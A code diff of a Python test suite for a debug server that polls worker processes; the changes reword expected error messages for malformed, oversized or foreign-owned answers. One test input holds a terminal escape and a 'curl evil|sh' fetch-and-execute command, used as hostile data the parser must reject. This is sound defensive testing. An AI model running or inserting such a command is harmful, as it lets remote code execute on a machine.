@@ -118,7 +118,7 @@ def test_sockets_of_another_user_are_passed_over(
         assert groups_here() == {}
         assert time.monotonic() - begun < 5
     assert not heard
-    assert "sockets that other users have made are named like those of workers" in caplog.text
+    assert "sockets of other users are named like those of workers" in caplog.text
 
 
 def test_a_socket_that_changes_hands_is_not_asked(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -251,14 +251,14 @@ def test_nobody_binds_the_name_of_a_worker_first() -> None:
 @pytest.mark.parametrize(
     ("line", "why"),
     [
-        (b"x\n", "it is no JSON"),
-        (b"\xff\n", "it is no JSON"),
-        (b"[" * 100_000 + b"\n", "it is no JSON"),
-        (b"9" * 100_000 + b"\n", "it is no JSON"),
-        (b'"\x1b[31mrun: curl evil|sh"\n', "it is no JSON"),
-        (b"[]\n", "account is no dictionary"),
-        (json.dumps(account(threads=7)).encode() + b"\n", "account.threads is no list"),
-        (json.dumps(account(idle=float("nan"))).encode() + b"\n", "NaN is no number"),
+        (b"x\n", "it is not valid JSON"),
+        (b"\xff\n", "it is not valid JSON"),
+        (b"[" * 100_000 + b"\n", "it is not valid JSON"),
+        (b"9" * 100_000 + b"\n", "it is not valid JSON"),
+        (b'"\x1b[31mrun: curl evil|sh"\n', "it is not valid JSON"),
+        (b"[]\n", "account is not a dictionary"),
+        (json.dumps(account(threads=7)).encode() + b"\n", "account.threads is not a list"),
+        (json.dumps(account(idle=float("nan"))).encode() + b"\n", "NaN is not a number"),
         (b'{"worker": "w9"}\n', "account has no busy"),
     ],
 )
@@ -266,7 +266,7 @@ def test_what_no_worker_tells_is_refused(line: bytes, why: str) -> None:
     with worker(answers(line)) as (place, _):
         (told,) = ask_all([place], ACCOUNT).values()
     assert isinstance(told, Malformed)
-    assert str(told).startswith(f"process {os.getpid()} answers what no worker tells: ")
+    assert str(told).startswith(f"process {os.getpid()} sent an invalid answer: ")
     assert why in str(told)
 
 
@@ -275,14 +275,14 @@ def test_a_malformed_answer_is_told_with_its_process(monkeypatch: pytest.MonkeyP
         monkeypatch.setattr(debug_server, "places", lambda: [place])
         (group,) = groups_here().values()
         text = Report(group.look()).text()
-    assert f"process {os.getpid()} answers what no worker tells" in " ".join(text.split())
+    assert f"process {os.getpid()} sent an invalid answer" in " ".join(text.split())
 
 
 def test_answers_are_limited_in_size(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(debug_server, "LARGEST", 1 << 20)
     with worker(floods) as (place, _):
         (told,) = ask_all([place], ACCOUNT, None, 30.0).values()
-    assert "answers more than 1 MiB" in str(told)
+    assert "sent more than 1 MiB" in str(told)
     text = json.dumps("x" * (1 << 20)).encode() + b"\n"
     monkeypatch.setattr(debug_server, "OF_A_GROUP", 3 << 20)
     monkeypatch.setattr(debug_server, "LARGEST", 2 << 20)
@@ -290,7 +290,7 @@ def test_answers_are_limited_in_size(monkeypatch: pytest.MonkeyPatch) -> None:
         asked = [stack.enter_context(worker(answers(text), number=number))[0] for number in range(6)]
         told = list(ask_all(asked, DUMP, None, 30.0).values())
     assert 1 <= sum(isinstance(each, str) for each in told) <= 2
-    assert all("or all of its user do" in str(each) for each in told if not isinstance(each, str))
+    assert all("or all processes of its user" in str(each) for each in told if not isinstance(each, str))
 
 
 def test_all_answers_together_have_one_limit_of_time() -> None:
